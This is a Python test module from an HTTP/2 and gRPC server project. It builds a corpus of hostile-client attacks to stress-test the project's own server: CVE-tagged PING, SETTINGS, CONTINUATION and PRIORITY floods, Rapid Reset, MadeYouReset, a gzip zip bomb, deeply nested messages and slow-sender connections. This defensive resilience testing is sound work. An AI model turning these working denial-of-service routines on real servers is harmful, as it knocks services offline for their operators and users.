"""What a hostile client may send, each as a function of an address and a size.

Each returns the connections it leaves open, so that what they hold can be measured, and the
server's verdict: `open`, `closed`, or what the last frame was. Nothing here knows of asyncio: an
attack runs in a thread, or in a process of its own.
"""

import contextlib
import gzip
import itertools
import random
import socket
import struct
import threading
from dataclasses import dataclass, field

from tests.hostile import http2, server

LARGE = b"/hostile.Echo/Large"
HEALTH = b"/grpc.health.v1.Health/Watch"
REFLECTION = b"/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"


@dataclass
class Result:
    """What became of an attack."""

    sent: int = 0
    taken: bool = True
    """Whether the server took everything it was sent."""
    connections: list = field(default_factory=list)

    def close(self):
        for each in self.connections:
            each.socket.close()

    @property
    def closed(self):
        """How many of the connections the server has closed; reads what it said."""
        return sum(each.is_closed() for each in self.connections)


def raw(payload):
    """Bytes that are no HTTP/2, from so many connections."""

    def attack(address, size):
        result = Result()
        for _ in range(size):
            connection = http2.Connection(address)
            result.taken &= connection.send(payload)
            result.sent += connection.sent
            result.connections.append(connection)
        return result

    return attack


def after_greeting(payloads, **settings):
    """What `payloads(size)` yields, on one connection that began as it should."""

    def attack(address, size):
        connection = http2.Connection(address).greet(**settings)
        taken = all(connection.send(each) for each in payloads(size))
        return Result(connection.sent, taken, [connection])

    return attack


def _chunks(pieces, most=1 << 16):
    """Join small pieces: an attacker does not pay a system call for each."""
    waiting, length = [], 0
    for piece in pieces:
        waiting.append(piece)
        length += len(piece)
        if length >= most:
            yield b"".join(waiting)
            waiting, length = [], 0
    yield b"".join(waiting)


def streams():
    """Return the numbers of a client's streams."""
    return itertools.count(1, 2)


def continuation(size):
    """One header block that never ends, in so many frames."""
    yield http2.frame(http2.HEADERS, 1, http2.request(server.ECHO))
    piece = http2.frame(http2.CONTINUATION, 1, http2.block([(b"x", b"y" * 1000)]))
    yield from _chunks(itertools.repeat(piece, size))


def empty_continuation(size):
    """The same, without a single header in them: CVE-2024-27316 and its like."""
    yield http2.frame(http2.HEADERS, 1, http2.request(server.ECHO))
    yield from _chunks(itertools.repeat(http2.frame(http2.CONTINUATION, 1), size))


def ping(size):
    """CVE-2019-9512: nobody reads the answers."""
    yield from _chunks(itertools.repeat(http2.frame(http2.PING, payload=bytes(8)), size))


def settings(size):
    """CVE-2019-9515: each wants to be acknowledged, and nobody reads that."""
    yield from _chunks(itertools.repeat(http2.settings(s4=65535), size))


def empty_data(size):
    """CVE-2019-9518: frames that carry nothing, on a stream that goes on."""
    yield http2.headers(1, http2.request(server.TAKE))
    yield from _chunks(itertools.repeat(http2.frame(http2.DATA, 1), size))


def window_updates(size):
    """Credit of one byte, again and again."""
    one = http2.frame(http2.WINDOW, 0, struct.pack(">I", 1))
    yield from _chunks(itertools.repeat(one, size))


def priorities(size):
    """CVE-2019-9513: priorities that nobody keeps."""
    one = http2.frame(http2.PRIORITY, 1, struct.pack(">IB", 0, 16))
    yield from _chunks(itertools.repeat(one, size))


def unknown_frames(size):
    """Frames of a kind that does not exist, which are to be ignored."""
    yield from _chunks(itertools.repeat(http2.frame(0x42, 0, bytes(100)), size))


def rapid_reset(size):
    """CVE-2023-44487: calls that are taken back at once."""
    cancel = struct.pack(">I", http2.CANCEL)

    def pieces():
        for stream in itertools.islice(streams(), size):
            yield http2.call(stream, server.ECHO)
            yield http2.frame(http2.RST_STREAM, stream, cancel)

    yield from _chunks(pieces())


def made_you_reset(size):
    """CVE-2025-8671: calls that the server itself has to reset, for a frame that is wrong."""
    nothing = struct.pack(">I", 0)

    def pieces():
        for stream in itertools.islice(streams(), size):
            yield http2.headers(stream, http2.request(server.TAKE))
            yield http2.frame(http2.WINDOW, stream, nothing)

    yield from _chunks(pieces())


def after_the_end(size):
    """The same by DATA on a stream that its own side has closed."""

    def pieces():
        for stream in itertools.islice(streams(), size):
            yield http2.call(stream, server.ECHO)
            yield http2.frame(http2.DATA, stream, b"more")

    yield from _chunks(pieces())


def bad_messages(size):
    """Calls whose request cannot be decoded."""
    nonsense = bytes(random.Random(7).randbytes(64))
    yield from _chunks(
        http2.call(stream, server.READ, nonsense) for stream in itertools.islice(streams(), size)
    )


def unknown_methods(size):
    """Calls of methods that do not exist, another each."""
    rng = random.Random(3)

    def pieces():
        for stream in itertools.islice(streams(), size):
            yield http2.call(stream, b"/no.Such/%030x" % rng.getrandbits(120))

    yield from _chunks(pieces())


def any_methods(size):
    """Calls of methods that a generic handler answers whatever their names; long names."""
    rng = random.Random(4)

    def pieces():
        for stream in itertools.islice(streams(), size):
            yield http2.call(stream, b"/any.%s/%010x" % (b"a" * 8000, rng.getrandbits(40)))

    yield from _chunks(pieces())


def callers(size):
    """Calls of callers with names as long as metadata may be, another each."""

    def pieces():
        for number, stream in zip(range(size), streams(), strict=False):
            name = b"%010d" % number + b"c" * 14_000
            yield http2.call(stream, server.ECHO, b"", (b"mesh-caller", name))

    yield from _chunks(pieces())


def many_keys(size):
    """Metadata of so many keys."""
    pairs = tuple((b"k%d" % number, b"") for number in range(size))
    yield http2.call(1, server.ECHO, b"", *pairs)


def large_metadata(size):
    """Metadata of so many bytes."""
    yield http2.call(1, server.ECHO, b"", (b"x", b"y" * size))


def large_message(size):
    """A message of so many bytes."""
    yield http2.call(1, server.ECHO, bytes(size))


def large_promise(size):
    """Calls whose messages say that they have 2 GiB, and then some of it."""
    for stream in itertools.islice(streams(), size):
        yield http2.headers(stream, http2.request(server.ECHO))
        yield http2.data(stream, http2.message(bytes(1000), length=2**31), end_stream=False)


def half_messages(size):
    """Calls that send 3.9 MiB of a message of 4, and wait."""
    payload = http2.message(bytes(3_900_000), length=4_000_000)
    for stream in itertools.islice(streams(), size):
        yield http2.headers(stream, http2.request(server.ECHO, timeout=None))
        yield http2.data(stream, payload, end_stream=False)


def compressed_nonsense(size):
    """Messages said to be compressed that are not."""
    pair = (b"grpc-encoding", b"gzip")
    for stream in itertools.islice(streams(), size):
        yield http2.headers(stream, http2.request(server.ECHO, pair))
        yield http2.data(stream, http2.message(b"nonsense", compressed=1))


_BOMB = gzip.compress(bytes(400_000_000), 9, mtime=0)


def zip_bomb(size):
    """Messages of 0.4 MB that grow to 400 MB."""
    pair = (b"grpc-encoding", b"gzip")
    for stream in itertools.islice(streams(), size):
        yield http2.headers(stream, http2.request(server.ECHO, pair))
        yield http2.data(stream, http2.message(_BOMB, compressed=1))


def nested(depth):
    """Return a Struct so deep, made from the inside out."""
    parts, size = [], 0

    def wrap(head):
        nonlocal size
        parts.append(head + _varint(size))
        size += len(parts[-1])

    for level in range(depth + 1):
        if level:
            wrap(b"\x0a")  # Struct.fields
            wrap(b"\x2a")  # Value.struct_value
        wrap(b"\x0a\x01k\x12")  # an entry: key, and the value that follows
    wrap(b"\x0a")
    return b"".join(reversed(parts))


def _varint(value):
    out = bytearray()
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    return bytes((*out, value))


def deep_message(size):
    """A message so deep."""
    yield http2.call(1, server.READ, nested(size))


def stalled(path, size):
    """Calls whose answers nobody reads: the window is 0."""
    pieces = (
        http2.call(stream, path, timeout=None) for stream in itertools.islice(streams(), size)
    )
    yield from _chunks(pieces)


def held(path, size):
    """Calls that begin, and then nothing."""
    yield from _chunks(
        http2.headers(stream, http2.request(path, timeout=None))
        for stream in itertools.islice(streams(), size)
    )


def idle(payload):
    """So many connections that send so much, and then nothing."""

    def attack(address, size):
        result = Result()
        for _ in range(size):
            with contextlib.suppress(OSError):
                connection = http2.Connection(address)
                connection.send(payload)
                result.sent += connection.sent
                result.connections.append(connection)
        return result

    return attack


def slowly(greeting, pieces, *, most=50, every=0.005):
    """So many connections that send a piece each, again and again, until all are closed.

    Gives up after `most` rounds. What comes from the server is not read.
    """

    def attack(address, size):
        result = Result()
        for _ in range(size):
            connection = http2.Connection(address, patience=10.0)
            connection.send(greeting)
            result.connections.append(connection)
        sending = [(each, pieces()) for each in result.connections]
        for _ in range(most):
            sending = [pair for pair in sending if pair[0].send(next(pair[1]))]
            if not sending:
                break
            threading.Event().wait(every)
        result.sent = sum(each.sent for each in result.connections)
        result.taken = bool(sending)
        return result

    return attack


def slow_greeting():
    """What a client begins with, a byte at a time."""
    yield from _bytes(http2.PREFACE)
    yield from slow_settings()


def slow_settings():
    """SETTINGS of 16 KiB, a byte at a time."""
    yield from _bytes(http2.frame(http2.SETTINGS, length=16380))
    yield from itertools.repeat(b"\0")


def slow_headers():
    """A frame of headers, a byte at a time."""
    yield from _bytes(http2.frame(http2.HEADERS, 1, http2.request(server.ECHO), length=16384))
    yield from itertools.repeat(b"\0")


def slow_continuation():
    """Headers in frames of a byte, without end."""
    block = http2.request(server.ECHO, (b"x", b"y" * 16_000))
    yield http2.frame(http2.HEADERS, 1, block[:1])
    for byte in _bytes(block[1:]):
        yield http2.frame(http2.CONTINUATION, 1, byte)


def slow_message(path, *, length):
    """A message in frames of a byte; its head comes in five."""

    def pieces():
        yield http2.headers(1, http2.request(path, timeout=None))
        for byte in _bytes(http2.message(b"", length=length)):
            yield http2.frame(http2.DATA, 1, byte)
        yield from itertools.repeat(http2.frame(http2.DATA, 1, b"\0"))

    return pieces


def slow_frame():
    """A message in one frame, a byte at a time."""
    yield http2.headers(1, http2.request(server.ECHO, timeout=None))
    yield from _bytes(http2.frame(http2.DATA, 1, http2.message(b"", length=16000), length=16005))
    yield from itertools.repeat(b"\0")


def no_message():
    """A call, and then frames that mean nothing."""
    yield http2.headers(1, http2.request(server.ECHO, timeout=None))
    yield from itertools.repeat(http2.frame(0x42))


def slow_reading():
    """An answer of 100 KB, of which a byte at a time may come."""
    one = struct.pack(">I", 1)
    yield http2.call(1, LARGE, b"100000", timeout=None)
    yield from itertools.repeat(http2.frame(http2.WINDOW, 1, one))


def _bytes(payload):
    return (payload[at : at + 1] for at in range(len(payload)))


def unread(size):
    """Calls with answers of 1 MB that nobody reads."""
    for stream in itertools.islice(streams(), size):
        yield http2.call(stream, LARGE, b"1000000", timeout=None)


def hung_up(address, size):
    """Connections that are cut at once, without a farewell."""
    result = Result()
    for _ in range(size):
        with http2.Connection(address) as connection:
            connection.greet()
            connection.send(http2.call(1, server.ECHO))
            result.sent += connection.sent
            linger = struct.pack("ii", 1, 0)
            connection.socket.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, linger)
    return result


TLS_HELLO = bytes.fromhex("16030100c8010000c40303") + bytes(197)
GREETING = http2.PREFACE + http2.settings()
NO_WINDOW = http2.PREFACE + http2.settings(s4=0)

SLOW = {
    "slow greetings": (b"", slow_greeting),
    "slow SETTINGS": (http2.PREFACE, slow_settings),
    "slow headers": (GREETING, slow_headers),
    "slow CONTINUATION": (GREETING, slow_continuation),
    "no message": (GREETING, no_message),
    "slow heads of messages": (GREETING, slow_message(server.ECHO, length=1 << 20)),
    "slow messages in a frame": (GREETING, slow_frame),
    "slow streams": (GREETING, slow_message(server.TAKE, length=1 << 20)),
    "slow readers": (NO_WINDOW, slow_reading),
}
"""How a connection begins, and the pieces that it sends then."""

CORPUS = {
    # name: (attack, size in `make test`, size in `make soak`)
    "random bytes": (raw(random.Random(1).randbytes(4096)), 5, 200),
    "HTTP/1.1": (raw(b"GET / HTTP/1.1\r\nHost: hostile\r\n\r\n"), 5, 200),
    "TLS": (raw(TLS_HELLO), 5, 200),
    "half a preface": (raw(http2.PREFACE[:10]), 5, 200),
    "a frame of 16 MiB": (
        after_greeting(lambda _: [http2.frame(http2.DATA, 1, b"x", length=(1 << 24) - 1)]),
        1,
        1,
    ),
    "SETTINGS of nonsense": (
        after_greeting(lambda _: [http2.frame(http2.SETTINGS, 0, b"12345")]),
        1,
        1,
    ),
    "CONTINUATION flood": (after_greeting(continuation), 1_000, 100_000),
    "empty CONTINUATION flood": (after_greeting(empty_continuation), 10_000, 1_000_000),
    "PING flood": (after_greeting(ping), 10_000, 1_000_000),
    "SETTINGS flood": (after_greeting(settings), 5_000, 500_000),
    "empty DATA flood": (after_greeting(empty_data), 10_000, 1_000_000),
    "WINDOW_UPDATE flood": (after_greeting(window_updates), 10_000, 1_000_000),
    "PRIORITY flood": (after_greeting(priorities), 10_000, 1_000_000),
    "unknown frames": (after_greeting(unknown_frames), 5_000, 100_000),
    "rapid reset": (after_greeting(rapid_reset), 300, 10_000),
    "MadeYouReset": (after_greeting(made_you_reset), 300, 10_000),
    "DATA after the end": (after_greeting(after_the_end), 300, 10_000),
    "calls cut off": (hung_up, 100, 2_000),
    "bad messages": (after_greeting(bad_messages), 300, 10_000),
    "unknown methods": (after_greeting(unknown_methods), 300, 20_000),
    "any methods": (after_greeting(any_methods), 300, 5_000),
    "many callers": (after_greeting(callers), 200, 10_000),
    "10,000 keys": (after_greeting(many_keys), 10_000, 10_000),
    "metadata of 100 KB": (after_greeting(large_metadata), 100_000, 1_000_000),
    "a message of 5 MB": (after_greeting(large_message), 5_000_000, 100_000_000),
    "a promise of 2 GiB": (after_greeting(large_promise), 10, 500),
    "half messages": (after_greeting(half_messages), 2, 100),
    "compressed nonsense": (after_greeting(compressed_nonsense), 50, 900),
    "zip bomb": (after_greeting(zip_bomb), 1, 20),
    "deep message": (after_greeting(deep_message), 1_000, 100_000),
    "responses nobody reads": (
        after_greeting(lambda size: stalled(server.FLOOD, size), s4=0),
        50,
        900,
    ),
    "responses of threads nobody reads": (
        after_greeting(lambda size: stalled(server.BLOCKING_FLOOD, size), s4=0),
        50,
        900,
    ),
    "health watches nobody reads": (
        after_greeting(lambda size: stalled(HEALTH, size), s4=0),
        50,
        900,
    ),
    "reflection held": (after_greeting(lambda size: held(REFLECTION, size)), 50, 900),
    "streams held": (after_greeting(lambda size: held(server.TAKE, size)), 50, 900),
    **{name: (slowly(*slow), 50, 500) for name, slow in SLOW.items()},
    "large answers nobody reads": (after_greeting(unread, s4=0), 5, 50),
    "silent connections": (idle(b""), 50, 500),
    "idle connections": (idle(GREETING), 50, 500),
}
